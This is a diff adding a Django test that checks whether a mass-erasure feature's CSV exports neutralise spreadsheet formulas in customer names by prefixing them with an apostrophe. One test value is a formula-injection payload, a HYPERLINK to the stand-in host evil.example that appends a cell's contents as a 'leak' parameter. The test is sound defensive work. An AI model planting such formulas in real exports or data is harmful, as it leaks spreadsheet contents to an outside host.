@@ -128,6 +128,24 @@ def test_m4_verification_shows_the_counts_the_ignored_reasons_and_both_lists(era
     assert Customer.objects.count() == 3
 
 
+def test_m4_both_lists_neutralise_cells_a_spreadsheet_would_run(eraser_client, three):
+    # given customers whose names a spreadsheet would take for formulas
+    never, buyer, blocked, _blocking = three
+    Customer.objects.filter(pk=never.pk).update(name='=HYPERLINK("http://evil.example/?leak="&A1,"click")')
+    Customer.objects.filter(pk=buyer.pk).update(name="+46 70 123 45 67")
+    Customer.objects.filter(pk=blocked.pk).update(name="@SUM(1+1)")
+    job, _response = plan(eraser_client)
+
+    # when
+    to_erase = eraser_client.get(reverse("mass_erasure:list", args=[job.pk, "to-erase"]))
+    ignored = eraser_client.get(reverse("mass_erasure:list", args=[job.pk, "ignored"]))
+
+    # then each such cell starts with an apostrophe, which a spreadsheet shows as text
+    names = [r["name"] for r in csv.DictReader(io.StringIO(to_erase.content.decode()))]
+    assert names == ['\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'+46 70 123 45 67"]
+    assert [r["name"] for r in csv.DictReader(io.StringIO(ignored.content.decode()))] == ["'@SUM(1+1)"]
+
+
 def test_m3_the_page_warns_when_the_date_lies_within_the_last_year(eraser_client, three):
     recent = (timezone.localdate() - timedelta(days=30)).isoformat()
     job, response = plan(eraser_client, through=recent)
